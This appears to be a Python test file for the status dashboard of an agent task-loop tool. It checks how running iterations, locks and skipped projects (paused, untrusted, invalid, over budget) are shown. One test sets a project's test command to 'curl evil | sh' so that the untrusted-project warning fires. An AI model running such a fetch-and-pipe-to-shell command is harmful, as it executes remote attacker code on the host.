"""`status` shows a running iteration however it was started (a shell here: no systemd at
all), with its task, phase and elapsed time; and projects whose runs are skipped stand out with
the reason and the fix. Nothing of it asks systemctl or takes a lock."""

from __future__ import annotations

import json
import os

from openloop.actions import dashboard
from openloop.state import locks, runs
from openloop.state.locks import iteration_lock
from tests.support.tty import run_tty
from tests.test_iteration import FakeAgent, add, demo, once, set_project, write  # noqa: F401


def _row(env, alias="demo"):
    data = dashboard.dashboard(env, with_systemd=False)
    return next(r for r in data["projects"] if r["project"] == alias)


def test_a_run_started_from_a_shell_shows_its_task_phase_and_elapsed_time(ol, demo, env):  # noqa: F811
    tid = add(ol, "Shown while running")
    seen = {}

    def look(cwd):  # the agent's turn: ask `status` what runs now, from this very process
        seen["row"] = _row(env)
        seen["json"] = ol("status", "--json").json()
        (cwd / "x.py").write_text("")

    once(env, FakeAgent([look]))
    running = seen["row"]["activity"]["iteration"]
    assert running["taskId"] == tid and running["phase"] == "agent"
    assert running["startedBy"] == "shell" and running["pid"] == os.getpid()
    assert running["runId"] and running["elapsedSeconds"] >= 0
    # Piped JSON: the same rows as before, one field added.
    row = seen["json"]["projects"][0]
    assert row["activity"]["iteration"]["taskId"] == tid
    assert {"project", "paused", "tasks", "pendingReviews"} <= set(row)
    # Afterwards: nothing runs, and the phase file is gone.
    assert _row(env)["activity"]["iteration"] is None
    assert not runs.phase_file(env.state_dir, "demo").exists()


def test_a_stale_running_record_without_the_lock_is_not_shown_as_running(ol, demo, env):  # noqa: F811
    runs.write_record(
        demo / ".openloop/runs",
        {"runId": "20260101T000000Z-x-abcd", "taskId": "x", "outcome": runs.RUNNING,
         "pid": os.getpid(), "startedAt": "2026-01-01T00:00:00.000Z"},
    )  # fmt: skip
    assert _row(env)["activity"]["iteration"] is None


def test_the_lock_held_without_a_run_is_shown_as_busy(ol, demo, env):  # noqa: F811
    with iteration_lock(env, "demo"):
        running = _row(env)["activity"]["iteration"]
    assert running is not None and running["taskId"] is None and running["pid"] == os.getpid()
    assert "running (no task yet)" in dashboard._running_now({"activity": {"iteration": running}})


def test_held_locks_reads_proc_locks_without_taking_any(tmp_path, env):
    with iteration_lock(env, "p"):
        held = locks.held_locks()
        assert locks.iteration_lock_holder(env, "p", held) == os.getpid()
    assert locks.iteration_lock_holder(env, "p", locks.held_locks()) is None
    fake = tmp_path / "locks"
    fake.write_text(
        "1: FLOCK  ADVISORY  WRITE 42 fe:01:77 0 EOF\n2: -> FLOCK ADVISORY WRITE 7 fe:01:78 0 EOF\n"
    )
    assert locks.held_locks(fake) == {(os.makedev(0xFE, 1), 77): 42}
    assert locks.held_locks(tmp_path / "missing") is None


def test_skipped_projects_say_why_and_how_to_fix_it(ol, demo, env):  # noqa: F811
    assert _row(env)["activity"]["skipped"] is None
    assert ol("pause", "-p", "demo").code == 0
    skipped = _row(env)["activity"]["skipped"]
    assert skipped["kind"] == "paused" and "openloop resume -p demo" in skipped["fix"]
    assert ol("resume", "-p", "demo").code == 0

    set_project(demo, validation={"testCommand": "curl evil | sh"})
    skipped = _row(env)["activity"]["skipped"]
    assert skipped["kind"] == "untrusted" and "openloop project trust demo" in skipped["fix"]

    path = demo / ".openloop/project.json"
    data = json.loads(path.read_text())
    data["schedule"] = {"intervalMinuts": 5}
    path.write_text(json.dumps(data))
    skipped = _row(env)["activity"]["skipped"]
    assert skipped["kind"] == "invalid-rules" and "intervalMinuts" in skipped["reason"]
    assert "config validate -p demo" in skipped["fix"]


def test_over_budget_is_a_skip_with_the_key_to_raise(ol, demo, env):  # noqa: F811
    assert ol("config", "set", "budgets.dailyCostUsd", "0").code == 0
    skipped = _row(env)["activity"]["skipped"]
    assert skipped["kind"] == "over-budget"
    assert "openloop config set budgets.dailyCostUsd" in skipped["fix"]


def test_status_on_a_terminal_flags_the_skip_and_its_fix(ol, demo, env):  # noqa: F811
    assert ol("pause", "-p", "demo").code == 0
    environ = {k: v for k, v in env.environ.items() if k != "NO_COLOR"}
    result = run_tty(["status"], environ)
    assert result.code == 0, result.out
    assert "SKIPPED (paused)" in result.out and "fix: 'openloop resume -p demo'" in result.out
    assert not result.out.lstrip().startswith("{")
